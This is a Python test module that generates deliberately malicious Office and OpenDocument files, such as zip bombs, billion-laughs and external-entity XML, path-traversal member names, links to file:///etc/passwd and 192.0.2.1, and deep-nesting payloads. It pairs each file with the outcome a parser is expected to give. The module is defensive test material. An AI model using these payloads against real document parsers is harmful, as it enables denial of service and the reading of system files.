"""Word, PowerPoint and OpenDocument files made to harm whoever opens them."""

from __future__ import annotations

import io
import struct
import zipfile
from functools import partial
from typing import TYPE_CHECKING

import docx
import pptx

from tests.hostile.case import DAMAGED, EMPTY, ENCRYPTED, GOOD, TOO_LARGE, UNSUPPORTED, Case

if TYPE_CHECKING:
    from collections.abc import Callable

_TEXT = "Kylätalolle toivotaan ramppia"
_DOCUMENT = "word/document.xml"
_RELATIONS = "word/_rels/document.xml.rels"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def word() -> bytes:
    document = docx.Document()
    document.add_heading("Tarpeet", 1)
    document.add_paragraph(_TEXT, "List Bullet")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def slides() -> bytes:
    deck = pptx.Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[1])
    slide.shapes.title.text = "Tarpeet"
    slide.placeholders[1].text = _TEXT
    out = io.BytesIO()
    deck.save(out)
    return out.getvalue()


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _pack(members: dict[str, bytes], level: int = 1) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED, level)
    return out.getvalue()


def _with(make: Callable[[], bytes], **members: bytes | Callable[[bytes], bytes]) -> bytes:
    """Return a package with members replaced or changed; ``__`` in a name stands for ``/``, ``_x`` for a suffix."""
    found = _members(make())
    for key, what in members.items():
        name = {"document": _DOCUMENT, "relations": _RELATIONS}.get(key, key)
        found[name] = what(found[name]) if callable(what) else what
    return _pack(found)


def _body(xml: str) -> bytes:
    return f'<?xml version="1.0"?><w:document {_W}><w:body>{xml}</w:body></w:document>'.encode()


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _declared(declarations: str, text: str) -> bytes:
    root = f"<w:document {_W}><w:body>{_paragraph(text)}</w:body></w:document>"
    return f'<?xml version="1.0"?><!DOCTYPE w:document [{declarations}]>{root}'.encode()


def _laughs() -> bytes:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    return _with(word, document=_declared(entities, "&a11;"))


def _external() -> bytes:
    return _with(word, document=_declared('<!ENTITY x SYSTEM "file:///etc/hostname">', "&x;"))


def _dtd() -> bytes:
    root = _body(_paragraph(_TEXT)).partition(b"?>")[2]
    return _with(
        word,
        document=b'<?xml version="1.0"?><!DOCTYPE w SYSTEM "http://192.0.2.1/a.dtd">' + root,
    )


def _bomb() -> bytes:
    head, tail = _body(_paragraph(_TEXT)).split(b"<w:body>")
    return _with(word, document=head + b"<w:body>" + b" " * 400_000_000 + tail)


def _lying() -> bytes:
    """Return a package whose directory says that its text is small."""
    head, tail = _body(_paragraph(_TEXT)).split(b"<w:body>")
    text = head + b"<w:body>" + b" " * 100_000_000 + tail
    return _with(word, document=text).replace(struct.pack("<L", len(text)), struct.pack("<L", 2000))


def _extra(name: str, data: bytes = b"x") -> bytes:
    return _pack(_members(word()) | {name: data})


def _twice() -> bytes:
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as archive:
        archive.NameToInfo.pop(_DOCUMENT)
        archive.writestr(_DOCUMENT, _body(_paragraph("toinen teksti")))
    return out.getvalue()


def _many() -> bytes:
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as archive:
        for number in range(100_000):
            archive.writestr(zipfile.ZipInfo(f"customXml/{number}.xml"), b"")
    return out.getvalue()


def _related(kind: str, target: str) -> bytes:
    relation = f'<Relationship Id="rId99" Type="{_RELATION}/{kind}" Target="{target}" TargetMode="External"/>'
    return _with(
        word,
        relations=lambda found: found.replace(b"</Relationships>", relation.encode() + b"</Relationships>"),
    )


def _locked() -> bytes:
    data = bytearray(word())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(signature)
        while place >= 0:
            data[place + offset] |= 1
            place = data.find(signature, place + 4)
    return bytes(data)


def _deep() -> bytes:
    levels = 100_000
    return _with(word, document=_body("<w:sdt><w:sdtContent>" * levels + "</w:sdtContent></w:sdt>" * levels))


def _tables() -> bytes:
    levels = 60
    opening, closing = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    return _with(word, document=_body(opening * levels + _paragraph(_TEXT) + closing * levels))


def _span() -> bytes:
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr>{_paragraph(_TEXT)}</w:tc>'
    return _with(word, document=_body(f"<w:tbl><w:tr>{cell}</w:tr></w:tbl>"))


def _huge_word() -> bytes:
    return _with(word, document=_body(_paragraph("ä" * 5_000_000)))


def _slide_loop() -> bytes:
    name = "ppt/slides/_rels/slide1.xml.rels"
    loop = f'<Relationship Id="rId98" Type="{_RELATION}/slide" Target="slide1.xml"/></Relationships>'
    return _with(slides, **{name: lambda found: found.replace(b"</Relationships>", loop.encode())})


def _groups() -> bytes:
    levels = 20_000
    name = "ppt/slides/slide1.xml"
    return _with(
        slides,
        **{
            name: lambda found: found.replace(
                b"</p:spTree>", b"<p:grpSp>" * levels + b"</p:grpSp>" * levels + b"</p:spTree>"
            )
        },
    )


_ODF = "urn:oasis:names:tc:opendocument:xmlns"


def _opendocument(body: str) -> bytes:
    content = (
        f'<?xml version="1.0"?><office:document-content xmlns:office="{_ODF}:office:1.0" '
        f'xmlns:text="{_ODF}:text:1.0" xmlns:table="{_ODF}:table:1.0"><office:body><office:text>{body}'
        "</office:text></office:body></office:document-content>"
    )
    manifest = (
        f'<manifest:manifest xmlns:manifest="{_ODF}:manifest:1.0"><manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.text"/></manifest:manifest>'
    )
    return _pack(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": content.encode(),
            "META-INF/manifest.xml": manifest.encode(),
        }
    )


def _long_mimetype() -> bytes:
    found = _members(_opendocument(f"<text:p>{_TEXT}</text:p>"))
    return _pack(found | {"mimetype": found["mimetype"] + b" " * 200_000_000})


CASES = (
    Case("bomb.docx", _bomb, (TOO_LARGE,)),
    Case("lying-size.docx", _lying, (DAMAGED, TOO_LARGE)),
    Case("laughs.docx", _laughs, (DAMAGED,)),
    Case("external-entity.docx", _external, (DAMAGED,)),
    Case("external-dtd.docx", _dtd, (DAMAGED,)),
    Case("traversal.docx", partial(_extra, "../../evil.xml"), (DAMAGED,)),
    Case("absolute.docx", partial(_extra, "/etc/evil.xml"), (DAMAGED,)),
    Case("twice.docx", _twice, (DAMAGED, GOOD)),
    Case("many-members.docx", _many, (TOO_LARGE,)),
    Case("template.docx", partial(_related, "attachedTemplate", "http://192.0.2.1/a.dotm"), says=_TEXT),
    Case("linked-picture.docx", partial(_related, "image", "file:///etc/passwd"), says=_TEXT),
    Case(
        "macros.docm", partial(_extra, "word/vbaProject.bin", b"\xd0\xcf\x11\xe0"), says=_TEXT, warns="macros"
    ),
    Case(
        "embedded.docx",
        partial(_extra, "word/embeddings/oleObject1.bin", b"MZ"),
        says=_TEXT,
        warns="embedded_files",
    ),
    Case("locked.docx", _locked, (ENCRYPTED,)),
    Case("deep.docx", _deep, (DAMAGED, EMPTY, GOOD)),
    Case("nested-tables.docx", _tables, (GOOD, EMPTY, DAMAGED)),
    Case("wide-cell.docx", _span, says=_TEXT),
    Case("one-word.docx", _huge_word, (TOO_LARGE,)),
    Case("half.docx", lambda: word()[:9000], (DAMAGED,)),
    Case("no-document.docx", lambda: _pack({"[Content_Types].xml": b"<Types/>"}), (DAMAGED, UNSUPPORTED)),
    Case("empty-zip.docx", lambda: _pack({}), (DAMAGED, UNSUPPORTED, EMPTY)),
    Case("slide-loop.pptx", _slide_loop, says=_TEXT),
    Case("deep-groups.pptx", _groups, (DAMAGED, GOOD)),
    Case(
        "repeated.odt",
        lambda: _opendocument(
            '<table:table><table:table-row table:number-rows-repeated="1000000000"><table:table-cell '
            f'table:number-columns-repeated="1000000000"><text:p>{_TEXT}</text:p></table:table-cell>'
            "</table:table-row></table:table>"
        ),
        says=_TEXT,
    ),
    Case("long-mimetype.odt", _long_mimetype, (GOOD, DAMAGED, TOO_LARGE), megabytes=100),
    Case(
        "spaces.odt",
        lambda: _opendocument(f'<text:p>{_TEXT}<text:s text:c="2147483647"/></text:p>'),
        says=_TEXT,
    ),
)
